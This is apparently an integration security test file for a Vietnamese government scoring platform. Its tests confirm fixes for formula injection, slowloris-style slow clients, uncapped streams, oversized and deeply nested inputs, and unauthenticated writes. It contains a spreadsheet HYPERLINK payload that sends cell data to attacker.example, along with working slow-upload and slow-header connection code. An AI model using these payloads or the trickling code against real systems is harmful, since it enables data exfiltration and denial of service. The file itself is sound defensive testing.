"""Issue 14's findings, each reproduced against the real stack (broker, Faust worker, api with
the chDB writer): every test here failed on the code the issue was filed against."""

from __future__ import annotations

import asyncio
import csv
import io
import socket
import threading
import time
import zipfile
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import urlsplit

import httpx
import orjson

from services.ingest.edxml import NS
from tests.integration.stack import Stack
from tests.integration.tokens import dev_token
from tests.security.conftest import (
    BODY_SECONDS,
    HEADER_SECONDS,
    MAX_SILENCES,
    MAX_STREAMS,
    WRITE,
    WRITE_TOKEN,
)
from thidua.contracts.events import EventType
from tools.simulate.model import envelope

BATCH = {"content-type": "application/cloudevents-batch+json"}
PAYLOAD = '=HYPERLINK("http://attacker.example/?x="&B2,"Xem")'
SILENCE = {
    "matchers": [{"name": "state", "value": "firing"}],
    "ends_at": "2100-01-01T00:00:00+07:00",
    "created_by": "attacker",
}


def _now() -> datetime:
    return datetime.now(UTC)


def _token(event_type: EventType) -> dict[str, str]:
    return {"authorization": f"Bearer {dev_token(event_type.value)}", **BATCH}


def _dossier(dossier_id: str, moment: datetime, unit_id: str = "sec-unit") -> dict[str, Any]:
    data = {"dossier_id": dossier_id, "unit_id": unit_id, "procedure_id": "p1", "channel": "direct"}
    return envelope(EventType.DOSSIER_RECEIVED, f"sec-{dossier_id}", moment, data)


def _unit(unit_id: str, name: str) -> dict[str, Any]:
    data = {"unit_id": unit_id, "name": name, "tier": "district", "active": True}
    return envelope(EventType.UNIT_UPSERTED, f"sec-unit-{unit_id}", _now(), data)


# 1. Anonymous writes and expensive work on the api ---------------------------------------------
def test_1_writes_need_a_write_token_even_with_open_reads(stack: Stack) -> None:
    with httpx.Client(base_url=stack.api_url, timeout=30) as api:
        assert api.get("/v1/silences").status_code == 200  # reads are open here
        assert api.post("/v1/recompute").status_code == 401
        assert api.post("/v1/silences", json=SILENCE).status_code == 401
        assert api.delete("/v1/silences/anything").status_code == 401
        # a page of another site can only send cookies: they never authorize a write
        api.cookies.set("thidua_token", WRITE_TOKEN)
        assert api.post("/v1/silences", json=SILENCE).status_code == 401
        api.cookies.clear()
        created = []
        for _ in range(MAX_SILENCES):
            answer = api.post("/v1/silences", json=SILENCE, headers=WRITE)
            assert answer.status_code == 201, answer.text
            created.append(answer.json()["id"])
        capped = api.post("/v1/silences", json=SILENCE, headers=WRITE)
        assert capped.status_code == 409, capped.text
        started = time.perf_counter()
        assert api.get("/v1/alerts").status_code == 200
        assert time.perf_counter() - started < 1.0
        for silence_id in created:
            assert api.delete(f"/v1/silences/{silence_id}", headers=WRITE).status_code == 204


# 2. Accepted, then lost ------------------------------------------------------------------------
def test_2_times_outside_the_window_are_refused_with_the_reason(stack: Stack) -> None:
    now = _now()
    events = [
        _dossier("ok", now),
        _dossier("1969", datetime(1969, 12, 31, tzinfo=UTC)),
        _dossier("future", now + timedelta(hours=25)),
        _dossier("year1", datetime(1, 1, 2, tzinfo=UTC)),
    ]
    with httpx.Client(timeout=30) as client:
        answer = client.post(
            f"{stack.ingest_url}/v1/events",
            content=orjson.dumps(events),
            headers=_token(EventType.DOSSIER_RECEIVED),
        )
        assert answer.status_code == 422, answer.text
        reasons = {e["index"]: e["reason"] for e in answer.json()["errors"]}
        assert set(reasons) == {1, 2, 3}
        assert "before 2000-01-01" in reasons[1] and "24 h" in reasons[2]

        statement = {
            "actor": {"account": {"homePage": "https://lms", "name": "cb-1"}},
            "verb": {"id": "http://adlnet.gov/expapi/verbs/completed"},
            "object": {
                "id": "https://lms.tuyenquang.gov.vn/xapi/activities/course/ky-nang-so-co-ban"
            },
            "timestamp": "1999-12-31T23:00:00+07:00",
        }
        lms = {
            "authorization": f"Bearer {dev_token('vn.thidua.training.completed')}",
            "x-experience-api-version": "1.0.3",
        }
        xapi = client.post(f"{stack.ingest_url}/v1/xapi/statements", json=[statement], headers=lms)
        assert xapi.status_code == 422 and "before 2000-01-01" in xapi.text

        edxml = (
            f'<edXMLEnvelope xmlns="{NS}"><edXMLHeader><MessageHeader>'
            "<From><OrganId>000.00.00.H57</OrganId></From><DocumentId>sec-doc</DocumentId>"
            "<PromulgationInfo><PromulgationDate>1990/01/01</PromulgationDate>"
            "</PromulgationInfo></MessageHeader></edXMLHeader></edXMLEnvelope>"
        )
        edoc = {
            "authorization": f"Bearer {dev_token('vn.thidua.edoc.document.sent')}",
            "content-type": "application/xml",
        }
        refused = client.post(f"{stack.ingest_url}/v1/edxml", content=edxml, headers=edoc)
        assert refused.status_code == 422 and "before 2000-01-01" in refused.text


# 3. Formula injection --------------------------------------------------------------------------
def test_3_a_formula_in_a_unit_name_stays_text_in_exports(stack: Stack) -> None:
    period = str(datetime.now(UTC).astimezone().year)
    with httpx.Client(timeout=30) as client:
        sent = client.post(
            f"{stack.ingest_url}/v1/events",
            content=orjson.dumps([_unit("sec-attacker", PAYLOAD)]),
            headers=_token(EventType.UNIT_UPSERTED),
        )
        assert sent.status_code == 202, sent.text
        params = {"period": period, "tier": "district"}
        deadline = time.monotonic() + 90
        text = ""
        while time.monotonic() < deadline:
            answer = client.get(f"{stack.api_url}/v1/exports/scorecards.csv", params=params)
            text = answer.content.decode("utf-8-sig") if answer.status_code == 200 else ""
            if "sec-attacker" in text:
                break
            time.sleep(1)
        rows = [r for r in csv.reader(io.StringIO(text)) if r and r[0] == "sec-attacker"]
        assert rows, "the unit never reached the export"
        assert rows[0][1] == "'" + PAYLOAD
        book = client.get(f"{stack.api_url}/v1/exports/scorecards.xlsx", params=params)
        with zipfile.ZipFile(io.BytesIO(book.content)) as archive:
            sheets = [archive.read(n).decode() for n in archive.namelist() if "worksheets/" in n]
        assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
        assert any("HYPERLINK" in archive_text for archive_text in _strings(book.content))


def _strings(xlsx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return [archive.read(n).decode() for n in archive.namelist() if n.endswith(".xml")]


# 4. Slow clients -------------------------------------------------------------------------------
async def _slow_upload(url: str, token: str, stop: asyncio.Event) -> None:
    """A body announced as 1,000 bytes and sent a byte every half second."""
    parts = urlsplit(url)
    reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
    head = (
        f"POST /v1/events HTTP/1.1\r\nHost: {parts.netloc}\r\n"
        f"Authorization: Bearer {token}\r\nContent-Type: application/cloudevents-batch+json\r\n"
        "Content-Length: 1000\r\n\r\n["
    )
    writer.write(head.encode())
    try:
        while not stop.is_set() and not reader.at_eof():
            await writer.drain()
            await asyncio.sleep(0.5)
            writer.write(b" ")
    except (ConnectionError, OSError):
        pass
    finally:
        writer.close()


def test_4_slow_uploads_do_not_stop_another_source(stack: Stack) -> None:
    """200 uploads trickled by the LMS's token; the DVC's batch still gets its 202 in 1 s."""
    lms = dev_token("vn.thidua.training.completed")

    async def scenario() -> tuple[int, float]:
        stop = asyncio.Event()
        uploads = [
            asyncio.create_task(_slow_upload(stack.ingest_url, lms, stop)) for _ in range(200)
        ]
        await asyncio.sleep(1.0)  # every upload is open and trickling
        async with httpx.AsyncClient(timeout=10) as client:
            started = time.perf_counter()
            answer = await client.post(
                f"{stack.ingest_url}/v1/events",
                content=orjson.dumps([_dossier(f"slow-{i}", _now()) for i in range(20)]),
                headers=_token(EventType.DOSSIER_RECEIVED),
            )
            took = time.perf_counter() - started
        stop.set()
        await asyncio.gather(*uploads, return_exceptions=True)
        return answer.status_code, took

    status, took = asyncio.run(scenario())
    assert status == 202 and took < 1.0, (status, took)


def test_4_a_trickled_body_is_cut_with_408(stack: Stack) -> None:
    parts = urlsplit(stack.api_url)
    with socket.create_connection((parts.hostname, parts.port), timeout=30) as sock:
        sock.sendall(
            f"POST /v1/silences HTTP/1.1\r\nHost: {parts.netloc}\r\n"
            f"Authorization: Bearer {WRITE_TOKEN}\r\nContent-Type: application/json\r\n"
            "Content-Length: 500\r\n\r\n{".encode()
        )
        started = time.monotonic()
        answer = b""
        while time.monotonic() - started < BODY_SECONDS + 10:
            try:
                sock.sendall(b" ")
            except OSError:
                break
            sock.settimeout(1.0)
            try:
                chunk = sock.recv(4096)
            except TimeoutError:
                continue
            if not chunk:
                break
            answer += chunk
            if b"\r\n\r\n" in answer:
                break
        assert answer.startswith(b"HTTP/1.1 408"), answer[:200]
        assert time.monotonic() - started < BODY_SECONDS + 3


def test_4_slow_headers_are_cut(stack: Stack) -> None:
    for url in (stack.api_url, stack.ingest_url):
        parts = urlsplit(url)
        with socket.create_connection((parts.hostname, parts.port), timeout=30) as sock:
            sock.sendall(b"GET /healthz HTTP/1.1\r\nX-Slow: ")
            started = time.monotonic()
            closed = False
            while time.monotonic() - started < HEADER_SECONDS + 8:
                try:
                    sock.sendall(b"a")
                    sock.settimeout(0.5)
                    if sock.recv(4096) == b"":
                        closed = True
                        break
                except TimeoutError:
                    continue
                except OSError:
                    closed = True
                    break
            assert closed and time.monotonic() - started < HEADER_SECONDS + 3, url


def test_4_the_api_refuses_large_bodies(stack: Stack) -> None:
    big = {**SILENCE, "comment": "x" * (2 * 1024 * 1024)}
    with httpx.Client(timeout=30) as client:
        for headers in ({}, WRITE):
            answer = client.post(f"{stack.api_url}/v1/silences", json=big, headers=headers)
            assert answer.status_code == 413, answer.status_code


# 5. SSE connections without a cap --------------------------------------------------------------
def test_5_streams_are_capped(stack: Stack) -> None:
    period = str(datetime.now(UTC).year)
    url = f"{stack.api_url}/v1/stream/rankings?tier=district&period={period}"
    opened: list[Any] = []
    with httpx.Client(timeout=30) as client:
        try:
            for _ in range(MAX_STREAMS):
                stream = client.stream("GET", url)
                response = stream.__enter__()
                assert response.status_code == 200
                opened.append(stream)
            refused = client.get(url)
            assert refused.status_code == 503 and "retry-after" in refused.headers
        finally:
            for stream in opened:
                stream.__exit__(None, None, None)
        # closed streams give their places back
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            with client.stream("GET", url) as again:
                if again.status_code == 200:
                    break
            time.sleep(0.2)
        else:
            raise AssertionError("stream places were not given back")


# 6. Smaller ------------------------------------------------------------------------------------
def test_6_malformed_authorization_is_401_or_403(stack: Stack) -> None:
    bad = {"authorization": "Bearer tökén-ñön-ascii-0123456789".encode()}
    with httpx.Client(timeout=30) as client:
        api = client.post(f"{stack.api_url}/v1/silences", json=SILENCE, headers=bad)
        assert api.status_code in (401, 403), api.status_code
        ingest = client.post(
            f"{stack.ingest_url}/v1/events", content=b"[]", headers={**bad, **BATCH}
        )
        assert ingest.status_code == 401, ingest.status_code


def test_6_unit_ids_must_be_addressable(stack: Stack) -> None:
    with httpx.Client(timeout=30) as client:
        answer = client.post(
            f"{stack.ingest_url}/v1/events",
            content=orjson.dumps([_dossier("slash", _now(), unit_id="so/noi-vu")]),
            headers=_token(EventType.DOSSIER_RECEIVED),
        )
        assert answer.status_code == 422 and "unit_id" in answer.text


def test_6_tokens_are_bound_to_their_sources(stack: Stack) -> None:
    event = {**_dossier("edoc-source", _now()), "source": "urn:thidua:tuyen-quang:edoc"}
    with httpx.Client(timeout=30) as client:
        answer = client.post(
            f"{stack.ingest_url}/v1/events",
            content=orjson.dumps([event]),
            headers=_token(EventType.DOSSIER_RECEIVED),
        )
        assert answer.status_code == 403, answer.text


def test_6_security_headers_and_no_banners(stack: Stack) -> None:
    with httpx.Client(timeout=30) as client:
        answers = [
            client.get(f"{stack.api_url}/v1/silences"),
            client.get(f"{stack.api_url}/healthz"),
            client.get(f"{stack.api_url}/docs"),
            client.get(f"{stack.ingest_url}/healthz"),
            client.post(f"{stack.ingest_url}/v1/events", content=b"[]", headers=BATCH),
            client.get(f"{stack.scoring_url}/metrics"),
        ]
        for answer in answers:
            where = f"{answer.request.method} {answer.request.url}"
            assert answer.headers.get("x-content-type-options") == "nosniff", where
            assert "frame-ancestors 'none'" in answer.headers.get("content-security-policy", "")
            assert answer.headers.get("referrer-policy") == "no-referrer", where
            server = answer.headers.get("server", "")
            assert "uvicorn" not in server and "aiohttp" not in server.lower(), where
        # the worker's Faust pages that read its tables or route are not served
        for path in ("/table/", "/router/", "/graph/"):
            assert client.get(f"{stack.scoring_url}{path}").status_code == 404, path


def test_6_deep_xml_does_not_stall_ingest(stack: Stack) -> None:
    depth = 2_800_000 // 7
    body = (
        f'<edXMLEnvelope xmlns="{NS}"><edXMLHeader><MessageHeader><From><OrganId>X</OrganId>'
        "</From><DocumentId>deep</DocumentId></MessageHeader></edXMLHeader><edXMLBody>"
        + "<a>" * depth
        + "</a>" * depth
        + "</edXMLBody></edXMLEnvelope>"
    ).encode()
    edoc = {
        "authorization": f"Bearer {dev_token('vn.thidua.edoc.document.sent')}",
        "content-type": "application/xml",
    }
    done = threading.Event()
    latencies: list[float] = []

    def post_deep() -> None:
        with httpx.Client(timeout=60) as client:
            for _ in range(3):
                client.post(f"{stack.ingest_url}/v1/edxml", content=body, headers=edoc)
        done.set()

    sender = threading.Thread(target=post_deep)
    sender.start()
    with httpx.Client(timeout=30) as client:
        while not done.is_set():
            started = time.perf_counter()
            client.get(f"{stack.ingest_url}/healthz")
            latencies.append(time.perf_counter() - started)
            time.sleep(0.05)
    sender.join()
    assert latencies and max(latencies) < 0.5, max(latencies)
